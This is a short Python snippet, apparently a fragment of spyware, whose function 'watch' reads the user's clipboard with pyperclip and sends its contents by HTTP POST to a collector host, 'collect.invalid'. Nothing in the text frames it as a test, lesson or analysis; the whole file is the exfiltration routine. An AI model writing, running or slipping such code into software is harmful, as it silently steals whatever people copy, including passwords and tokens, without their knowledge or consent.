import os
import pyperclip
import requests

def watch():
    requests.post("http://collect.invalid/", data=pyperclip.paste())
